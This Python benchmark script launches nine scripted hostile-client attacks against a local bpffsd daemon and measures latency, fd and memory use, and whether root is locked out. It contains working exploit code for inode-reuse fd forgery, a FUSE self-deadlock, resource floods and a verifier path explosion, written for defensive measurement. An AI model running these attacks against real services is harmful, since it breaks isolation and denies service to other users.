"""Hostile clients against one bpffsd: what each attack of issue 13 costs everyone else.

    python3 bench/attacks.py [--quick] [--only NAME ...] [--json]

Each attack runs against a fresh daemon (with a FUSE mount and a state directory), mostly as
the unprivileged uid 65534, while a probe process owned by root looks up one map element
every millisecond. For each attack the table gives:

- the probe's worst and 99th-percentile lookup latency while the attack ran (a lookup still
  in flight when the attack ends counts with its age: a daemon that hangs shows as a long one);
- the daemon's open fds and RSS before, at their peak during, and after the attack;
- whether root could still create a map afterwards, and what the attacker itself got.

The goal (issue 13): probe max under 50 ms, fds and RSS back to baseline, root never refused.
Wall-clock figures on a shared 2-core VM: a busy neighbour moves them by 1.5-2x, so read a
single run's worst case as an upper bound, not a property of the code.
"""

from __future__ import annotations

import argparse
import contextlib
import json
import mmap
import os
import pickle
import resource
import shutil
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from bpffs.client import Client, calls
from bpffs.vm import asm
from bpffs.vm.isa import Jmp
from bpffs.vm.uapi import MapType, ProgType

NOBODY = 65534
PROBE_PERIOD = 0.001  # seconds between two probe lookups
SAMPLE_PERIOD = 0.05  # seconds between two samples of the daemon's fds and RSS
ROOT_CHECK_TIMEOUT = 10.0


# -- the daemon under attack -------------------------------------------------------------------
@dataclass
class Target:
    root: Path
    args: tuple[str, ...] = ()
    proc: subprocess.Popen | None = None

    @property
    def socket(self) -> str:
        return str(self.root / "control.sock")

    @property
    def mount(self) -> Path:
        return self.root / "bpf"

    def start(self) -> Target:
        os.chmod(self.root, 0o755)  # the attacker (uid 65534) must reach the socket and mount
        self.mount.mkdir()
        self.proc = subprocess.Popen(
            [sys.executable, "-m", "bpffs.daemon.main", "--socket", self.socket,
             "--mount", str(self.mount), "--state-dir", str(self.root / "state"), *self.args],
            stdout=subprocess.DEVNULL, stderr=open(self.root / "log", "wb"))  # noqa: SIM115
        deadline = time.monotonic() + 30
        while not self._ready():
            if self.proc.poll() is not None or time.monotonic() > deadline:
                raise RuntimeError(f"bpffsd did not start:\n{self.log()}")
            time.sleep(0.05)
        return self

    def _ready(self) -> bool:
        try:
            with socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET) as s:
                s.connect(self.socket)
        except OSError:
            return False
        return os.path.ismount(self.mount)

    def log(self) -> str:
        return (self.root / "log").read_text(errors="replace")

    def stop(self) -> None:
        if self.proc and self.proc.poll() is None:
            self.proc.send_signal(signal.SIGTERM)
            try:
                self.proc.wait(timeout=15)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait()
        subprocess.run(["fusermount3", "-u", "-z", str(self.mount)], capture_output=True)

    def fds(self) -> int:
        assert self.proc is not None
        return len(os.listdir(f"/proc/{self.proc.pid}/fd"))

    def rss_mb(self) -> float:
        assert self.proc is not None
        with open(f"/proc/{self.proc.pid}/status") as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1]) / 1024
        return 0.0


# -- processes: the probe and the attacker -----------------------------------------------------
class Probe:
    """A root process looking up one element every PROBE_PERIOD; it publishes the start time
    of the lookup in flight in shared memory, so a lookup that never returns still counts."""

    _SLOT = struct.Struct("d")

    def __init__(self, target: Target, map_fd: int):
        self.shared = mmap.mmap(-1, self._SLOT.size)
        self._SLOT.pack_into(self.shared, 0, 0.0)
        self.read_end, write_end = os.pipe()
        self.pid = os.fork()
        if self.pid == 0:  # pragma: no cover - the child
            os.close(self.read_end)
            self._run(target, map_fd, write_end)
        os.close(write_end)

    def _run(self, target: Target, map_fd: int, out: int) -> None:
        latencies: list[float] = []
        stop = False

        def on_term(*_: object) -> None:
            nonlocal stop
            stop = True

        signal.signal(signal.SIGTERM, on_term)
        try:
            with Client(target.socket) as c:
                key = bytes(4)
                while not stop:
                    start = time.monotonic()
                    self._SLOT.pack_into(self.shared, 0, start)
                    c.map_lookup_elem(map_fd, key)
                    self._SLOT.pack_into(self.shared, 0, 0.0)
                    latencies.append(time.monotonic() - start)
                    time.sleep(PROBE_PERIOD)
        finally:
            with os.fdopen(out, "wb") as f:
                pickle.dump(latencies, f)
            os._exit(0)

    def finish(self) -> tuple[float, float, int]:
        """(max seconds, p99 seconds, lookups done); stops the probe."""
        in_flight = self._SLOT.unpack_from(self.shared, 0)[0]
        stuck = time.monotonic() - in_flight if in_flight else 0.0
        os.kill(self.pid, signal.SIGTERM)
        latencies: list[float] = []
        if stuck < 1.0:  # a probe blocked in the daemon cannot answer: do not wait for it
            with os.fdopen(self.read_end, "rb") as f, contextlib.suppress(EOFError):
                latencies = pickle.load(f)
        else:
            os.close(self.read_end)
            os.kill(self.pid, signal.SIGKILL)
        os.waitpid(self.pid, 0)
        latencies.append(stuck)
        latencies.sort()
        return latencies[-1], latencies[int(0.99 * (len(latencies) - 1))], len(latencies) - 1


def as_user(fn: Callable[..., Any], *args: Any, uid: int = NOBODY, timeout: float = 60.0,
            nofile: int | None = None) -> Any:
    """fn(*args) in a forked child running as uid (and gid) `uid`; its result, or
    ('error', text) when it raised, or ('timeout', seconds) when it did not end in time.
    nofile raises the child's RLIMIT_NOFILE first (an attacker with many fds)."""
    read_end, write_end = os.pipe()
    pid = os.fork()
    if pid == 0:  # pragma: no cover - the child
        os.close(read_end)
        try:
            try:
                if nofile:  # up to the hard limit: raising that needs CAP_SYS_RESOURCE
                    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
                    resource.setrlimit(resource.RLIMIT_NOFILE, (min(nofile, hard), hard))
                if uid:
                    os.setgroups([])
                    os.setresgid(uid, uid, uid)
                    os.setresuid(uid, uid, uid)
                outcome = fn(*args)
            except Exception as e:
                outcome = ("error", f"{type(e).__name__}: {e}")
            with os.fdopen(write_end, "wb") as f:
                pickle.dump(outcome, f)
        finally:
            os._exit(0)
    os.close(write_end)
    deadline = time.monotonic() + timeout
    data = b""
    os.set_blocking(read_end, False)
    try:
        while time.monotonic() < deadline:
            try:
                chunk = os.read(read_end, 1 << 20)
            except BlockingIOError:
                if os.waitpid(pid, os.WNOHANG) != (0, 0):
                    pid = 0
                    break
                time.sleep(0.02)
                continue
            if not chunk:
                break
            data += chunk
        else:
            return ("timeout", timeout)
    finally:
        if pid:
            with contextlib.suppress(ProcessLookupError):
                os.kill(pid, signal.SIGKILL)
            with contextlib.suppress(ChildProcessError):
                os.waitpid(pid, 0)
        os.close(read_end)
    return pickle.loads(data) if data else ("error", "the attacker died")


def root_can_create(target: Target) -> str:
    def create() -> str:
        with Client(target.socket) as c:
            fd = c.map_create(MapType.ARRAY, 4, 8, 1)
            os.close(fd)
        return "yes"

    outcome = as_user(create, uid=0, timeout=ROOT_CHECK_TIMEOUT)
    return outcome if isinstance(outcome, str) else f"no ({outcome[1]})"


# -- the attacks ---------------------------------------------------------------------------------
@dataclass
class Attack:
    name: str
    finding: str
    run: Callable[[Target, bool], Any]
    daemon_args: tuple[str, ...] = ()
    setup: Callable[[Target, bool], Any] | None = None


def forge_fd(target: Target, quick: bool) -> str:
    """Finding 1: a /dev/shm file with the inode number of root's object fd, sent with bind."""
    with Client(target.socket) as root:
        fd = root.map_create(MapType.ARRAY, 4, 8, 1)
        root.map_update_elem(fd, bytes(4), (0x5EC2E7).to_bytes(8, "little"))
        victim_ino = os.fstat(fd).st_ino

        def forge() -> str:
            scratch = tempfile.mkdtemp(dir="/dev/shm")
            try:
                for i in range(2_000_000):
                    path = f"{scratch}/{i}"
                    with open(path, "w"):
                        pass
                    ino = os.stat(path).st_ino
                    if ino == victim_ino:
                        break
                    if ino > victim_ino:
                        return f"not reproducible here (tmpfs inodes passed {victim_ino})"
                    os.unlink(path)
                forged = os.open(path, os.O_RDONLY)
                with Client(target.socket) as c:
                    try:
                        value = c.map_lookup_elem(forged, bytes(4))
                    except OSError as e:
                        return f"refused: {os.strerror(e.errno or 0)}"
                return f"FORGED: read {value.hex()}"
            finally:
                shutil.rmtree(scratch, ignore_errors=True)

        result = as_user(forge, timeout=30)
        os.close(fd)
    return str(result)


def opath_deadlock(target: Target, quick: bool) -> str:
    """Finding 2: an O_PATH fd on the daemon's own mount, sent with bind once its cached
    attributes have expired: fstat on the loop becomes a FUSE request to ourselves."""
    def attack() -> str:
        with Client(target.socket) as c:
            fd = c.map_create(MapType.ARRAY, 4, 8, 1)
            c.obj_pin(fd, f"{target.mount}/nobody_pin")
            pfd = os.open(f"{target.mount}/nobody_pin", os.O_PATH)
            time.sleep(11)  # past the mount's attribute timeout (bpffsd/fs/worker.py: 10 s)
            try:
                c.run(calls.bind(c.session, pfd))
            except OSError as e:
                return f"refused: {os.strerror(e.errno or 0)}"
        return "bound?"

    return str(as_user(attack, timeout=25))


def objget_flood(target: Target, quick: bool) -> str:
    """Finding 4: obj_get of one's own pin, over and over, keeping every fd."""
    count = 5_000 if quick else 25_000

    def attack() -> str:
        with Client(target.socket) as c:
            fd = c.map_create(MapType.ARRAY, 4, 8, 1)
            pin = f"{target.mount}/nobody_pin"
            c.obj_pin(fd, pin)
            held = []
            try:
                for _ in range(count):
                    held.append(c.obj_get(pin))
            except OSError as e:
                return f"stopped after {len(held)} fds: {os.strerror(e.errno or 0)}"
            return f"held {len(held)} fds"

    return str(as_user(attack, nofile=count + 1024, timeout=120))


def idle_connections(target: Target, quick: bool) -> str:
    """Finding 4: connections that never say hello, kept open."""
    count = 5_000 if quick else 19_000

    def attack() -> str:
        socks = []
        try:
            for _ in range(count):
                s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
                s.connect(target.socket)
                socks.append(s)
        except OSError as e:
            return f"stopped after {len(socks)}: {e.strerror}"
        time.sleep(3)
        return f"held {len(socks)} connections"

    return str(as_user(attack, nofile=count + 1024, timeout=120))


def parked_fds(target: Target, quick: bool) -> str:
    """Finding 4: connections parked on a request that never ends, 253 fds attached each."""
    conns = 86

    def attack() -> str:
        clients, refused = [], 0
        junk = [os.open("/dev/null", os.O_RDONLY) for _ in range(253)]
        for _ in range(conns):
            try:
                c = Client(target.socket)
                c._send(calls.Request("trace_read", (0,), tuple(junk)))
                clients.append(c)
            except OSError:
                refused += 1
        time.sleep(3)
        answered = 0
        for c in clients:
            c.sock.settimeout(0.01)
            with contextlib.suppress(OSError):
                c._receive()
                answered += 1
        return f"{len(clients)} parked, {answered} answered at once, {refused} refused"

    return str(as_user(attack, nofile=conns * 300, timeout=60))


def verifier_bomb(target: Target, quick: bool) -> str:
    """Finding 5: a socket filter with 60 branch levels, each path initialising its own set
    of stack bytes, so that no explored state covers another (2^60 paths without liveness)."""
    body: list[Any] = [asm.ldx(4, 2, 1, 0)]  # r2 = skb->len: unknown to the verifier
    for level in range(60):
        body += [asm.jmp_imm(Jmp.JGT, 2, level, 1), asm.st(1, 10, -(level + 1), 0)]
    body += [asm.mov64_imm(0, 0), asm.exit()]
    insns = asm.program(*body)

    def attack() -> str:
        start = time.monotonic()
        with Client(target.socket) as c:
            try:
                c.prog_load(ProgType.SOCKET_FILTER, insns, license="GPL")
                outcome = "accepted"
            except OSError as e:
                outcome = f"refused: {os.strerror(e.errno or 0)}"
        return f"{outcome} after {time.monotonic() - start:.1f} s ({len(insns) // 8} insns)"

    return str(as_user(attack, timeout=60))


def big_batch(target: Target, quick: bool) -> str:
    """Finding 5: one huge map_update_batch against a small map (keys repeat)."""
    total = (48 if quick else 240) << 20
    entries = 1024

    def attack() -> str:
        n = total // 8  # 4-byte keys and values, sent packed as the protocol carries them
        keys = b"".join(i.to_bytes(4, "little") for i in range(entries)) * (n // entries)
        start = time.monotonic()
        with Client(target.socket) as c:
            fd = c.map_create(MapType.ARRAY, 4, 4, entries)
            handle, _ = c.run(calls.bind(c.session, fd))
            c._send(calls.Request("map_update_batch", (handle, keys, bytes(len(keys)), 0)))
            try:
                outcome = f"applied {c._receive()[0]}"
            except OSError as e:
                outcome = f"refused: {os.strerror(e.errno or 0)}"
        return f"{outcome} of {n} ({total >> 20} MiB) in {time.monotonic() - start:.1f} s"

    return str(as_user(attack, timeout=180))


def big_dump_setup(target: Target, quick: bool) -> None:
    with Client(target.socket) as c:
        entries = 20_000 if quick else 100_000
        fd = c.map_create(MapType.HASH, 4, 8, entries)
        keys = [i.to_bytes(4, "little") for i in range(entries)]
        c.map_update_batch(fd, keys, [bytes(8)] * entries)
        c.obj_pin(fd, str(target.mount / "big"))
        os.chmod(target.mount / "big", 0o644)
        os.close(fd)


def big_dump_opens(target: Target, quick: bool) -> str:
    """Finding 5: each open of a pinned big map rendered its whole dump on the loop."""
    opens = 5 if quick else 20

    def attack() -> str:
        files, start = [], time.monotonic()
        for _ in range(opens):
            f = open(target.mount / "big", "rb")  # noqa: SIM115 - held on purpose
            f.read(1)
            files.append(f)
        took = time.monotonic() - start
        time.sleep(2)
        return f"{opens} opens held, {took:.1f} s to open and read a byte of each"

    return str(as_user(attack, timeout=120))


def test_run_stall(target: Target, quick: bool) -> str:
    """Finding 7 (root): a very long program, test-run with a large repeat."""
    size = 100_000 if quick else 1_000_000
    insns = asm.program(asm.mov64_imm(0, 0), *[asm.add64_imm(0, 1)] * (size - 2), asm.exit())

    def attack() -> str:
        start = time.monotonic()
        with Client(target.socket) as c:
            try:
                fd = c.prog_load(ProgType.SCHED_CLS, insns, license="GPL")
            except OSError as e:
                return f"load refused: {os.strerror(e.errno or 0)}"
            loaded = time.monotonic() - start
            try:
                run = c.prog_test_run(fd, bytes(64), repeat=1_000_000)
                outcome = f"ran, retval {run.retval}"
            except OSError as e:
                outcome = f"run refused: {os.strerror(e.errno or 0)}"
        return f"load {loaded:.1f} s, then {outcome} after {time.monotonic() - start:.1f} s"

    return str(as_user(attack, uid=0, timeout=120))


ATTACKS = [
    Attack("forge-fd", "1", forge_fd),
    Attack("opath-deadlock", "2", opath_deadlock),
    Attack("objget-flood", "4", objget_flood),
    Attack("idle-connections", "4", idle_connections),
    Attack("parked-fds", "4", parked_fds),
    Attack("verifier-bomb", "5", verifier_bomb),
    Attack("big-batch", "5", big_batch),
    Attack("big-dump-opens", "5", big_dump_opens, setup=big_dump_setup),
    Attack("test-run-stall", "7", test_run_stall),
]


# -- one measured run ---------------------------------------------------------------------------
@dataclass
class Measured:
    name: str
    finding: str
    probe_max_ms: float = 0.0
    probe_p99_ms: float = 0.0
    probe_lookups: int = 0
    fds: tuple[int, int, int] = (0, 0, 0)
    rss_mb: tuple[float, float, float] = (0.0, 0.0, 0.0)
    root_create: str = ""
    attacker: str = ""
    notes: list[str] = field(default_factory=list)


@contextlib.contextmanager
def sampler(target: Target) -> Iterator[dict[str, float]]:
    peak = {"fds": 0.0, "rss": 0.0}
    done = threading.Event()

    def sample() -> None:
        while not done.is_set():
            with contextlib.suppress(OSError):
                peak["fds"] = max(peak["fds"], target.fds())
                peak["rss"] = max(peak["rss"], target.rss_mb())
            done.wait(SAMPLE_PERIOD)

    thread = threading.Thread(target=sample, daemon=True)
    thread.start()
    try:
        yield peak
    finally:
        done.set()
        thread.join()


def measure(attack: Attack, quick: bool) -> Measured:
    result = Measured(attack.name, attack.finding)
    with tempfile.TemporaryDirectory(prefix="bpffsd-attack-") as tmp:
        target = Target(Path(tmp), attack.daemon_args).start()
        try:
            with Client(target.socket) as root:
                probe_map = root.map_create(MapType.ARRAY, 4, 8, 1)
                if attack.setup:
                    attack.setup(target, quick)
                time.sleep(0.5)
                fds0, rss0 = target.fds(), target.rss_mb()
                probe = Probe(target, probe_map)
                time.sleep(0.3)
                with sampler(target) as peak:
                    result.attacker = attack.run(target, quick)
                    time.sleep(0.3)
                result.probe_max_ms, p99, result.probe_lookups = (
                    x * 1000 if i < 2 else x for i, x in enumerate(probe.finish()))
                result.probe_p99_ms = p99
                time.sleep(1.0)  # the attacker has exited: let the daemon drop what it held
                result.root_create = root_can_create(target)
                with contextlib.suppress(OSError):
                    result.fds = (fds0, int(peak["fds"]), target.fds())
                    result.rss_mb = (rss0, peak["rss"], target.rss_mb())
                os.close(probe_map)
        finally:
            target.stop()
            if "Traceback" in target.log():
                result.notes.append("the daemon logged a traceback")
    return result


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--quick", action="store_true", help="smaller attacks (a few minutes)")
    ap.add_argument("--only", nargs="*", help="attack names to run")
    ap.add_argument("--json", action="store_true")
    args = ap.parse_args()
    if os.geteuid() != 0:
        sys.exit("bench/attacks.py runs attackers as uid 65534: run it as root")
    print(f"load average before: {os.getloadavg()[0]:.2f}", file=sys.stderr)
    rows = []
    for attack in ATTACKS:
        if args.only and attack.name not in args.only:
            continue
        print(f"-- {attack.name} ...", file=sys.stderr, flush=True)
        rows.append(measure(attack, args.quick))
        if not args.json:
            r = rows[-1]
            print(f"{r.name:17} #{r.finding} probe max {r.probe_max_ms:8.1f} ms"
                  f" p99 {r.probe_p99_ms:6.1f} ms ({r.probe_lookups} lookups)"
                  f" | fds {r.fds[0]}/{r.fds[1]}/{r.fds[2]}"
                  f" | RSS {r.rss_mb[0]:.0f}/{r.rss_mb[1]:.0f}/{r.rss_mb[2]:.0f} MB"
                  f" | root create: {r.root_create}\n    attacker: {r.attacker}"
                  + "".join(f"\n    note: {n}" for n in r.notes), flush=True)
    if args.json:
        print(json.dumps([r.__dict__ for r in rows], indent=1))


if __name__ == "__main__":
    main()
